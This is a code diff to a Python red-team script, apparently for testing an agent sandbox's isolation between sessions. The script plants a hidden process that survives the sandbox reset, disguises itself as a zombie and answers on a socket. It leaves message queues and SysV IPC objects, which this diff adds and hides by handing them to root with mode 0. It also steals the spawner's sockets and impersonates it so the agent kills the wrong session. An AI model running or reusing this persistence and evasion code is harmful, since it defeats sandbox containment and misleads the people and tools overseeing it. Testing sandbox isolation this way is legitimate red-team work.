@@ -4,8 +4,9 @@ object. Standard library only (it runs on the sandbox's or the image's python3).
 plant: leave a process meant to outlive the reset, hidden as well as the code can hide one: it leaves its
   session, makes itself non-dumpable (its /proc files become root's) and its leader ends alone (the exit
   syscall, not exit_group), so it shows as a zombie while a thread of it runs on, answering on an abstract
-  Unix socket; and a POSIX message queue with a message in it, where the sandbox lets the code make one.
-look: what the next claim finds of that: the survivor's answer, the queue's message.
+  Unix socket; a POSIX message queue with a message in it, where the sandbox lets the code make one; and
+  SysV IPC objects handed to root with mode 0 (their creator may still remove them, but not read them).
+look: what the next claim finds of that: the survivor's answer, the queue's message, the IPC objects.
 forge: take the spawner's sockets (pidfd_getfd: it runs as the code's uid), kill it, and speak for it to the
   next exec: the pid of the session of the container's TTL (`timeout`, root), with a pidfd of the container's
   init, which never ends; so the exec times out, and the agent kills that "command's" session.
@@ -22,6 +23,7 @@ import threading
 
 NAME = "\0poolui-redteam"
 QUEUE = b"/poolui-redteam"
+KEY = 0x5EC2E7
 SYS_EXIT, SYS_PIDFD_GETFD = 60, 438  # x86_64
 libc = ctypes.CDLL(None, use_errno=True)
 
@@ -72,7 +74,24 @@ def plant():
     mq_open, mq_send, _ = queues()
     q = mq_open(QUEUE, os.O_CREAT | os.O_RDWR, 0o600, None)
     seen["mq"] = ctypes.get_errno() if q < 0 else mq_send(q, b"from the claim before", 21, 0)
+    seen["ipc"] = [hide(libc.shmctl, libc.shmget(KEY, 4096, 0o1600)), hide(libc.msgctl, libc.msgget(KEY, 0o1600)),
+                   hide(libc.semctl, libc.semget(KEY, 1, 0o1600), 0)]
     print(json.dumps(seen))
+
+
+class Perm(ctypes.Structure):  # struct ipc_perm, first in each of shmid_ds, msqid_ds, semid_ds (x86_64)
+    _fields_ = [("key", ctypes.c_int), ("uid", ctypes.c_uint), ("gid", ctypes.c_uint), ("cuid", ctypes.c_uint),
+                ("cgid", ctypes.c_uint), ("mode", ctypes.c_ushort), ("pad", ctypes.c_char * 30)]
+
+
+def hide(ctl, i, *semnum):
+    """IPC_STAT, then IPC_SET with root as the owner and mode 0; 0 when done."""
+    ds = (ctypes.c_char * 512)()
+    perm = Perm.from_buffer(ds)
+    if i < 0 or ctl(i, *semnum, 2, ds) < 0:
+        return ctypes.get_errno() or -1
+    perm.uid, perm.gid, perm.mode = 0, 0, 0
+    return ctl(i, *semnum, 1, ds)
 
 
 def ask():
@@ -93,7 +112,8 @@ def look():
         buf = ctypes.create_string_buffer(8192)
         n = mq_receive(q, buf, 8192, None)
         message = buf.raw[:n].decode() if n >= 0 else f"queue there, errno {ctypes.get_errno()}"
-    print(json.dumps({"survivor": ask(), "mq": message}))
+    ipc = [libc.shmget(KEY, 0, 0), libc.msgget(KEY, 0), libc.semget(KEY, 0, 0)]  # -1: none with the key
+    print(json.dumps({"survivor": ask(), "mq": message, "ipc": ipc}))
 
 
 def read(path):
